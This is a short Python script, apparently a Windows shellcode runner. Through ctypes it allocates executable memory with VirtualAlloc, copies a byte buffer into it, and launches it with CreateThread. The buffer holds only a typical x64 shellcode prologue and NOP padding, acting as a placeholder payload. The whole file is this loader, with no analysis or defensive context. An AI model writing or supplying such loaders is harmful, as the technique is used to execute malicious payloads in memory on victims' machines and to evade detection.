import ctypes
code = bytearray(b"\xfc\x48\x83\xe4\xf0" + b"\x90" * 64)
pointer = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(pointer, (ctypes.c_char * len(code)).from_buffer(code), len(code))
handle = ctypes.windll.kernel32.CreateThread(0, 0, pointer, 0, 0, 0)
ctypes.windll.kernel32.WaitForSingleObject(handle, -1)
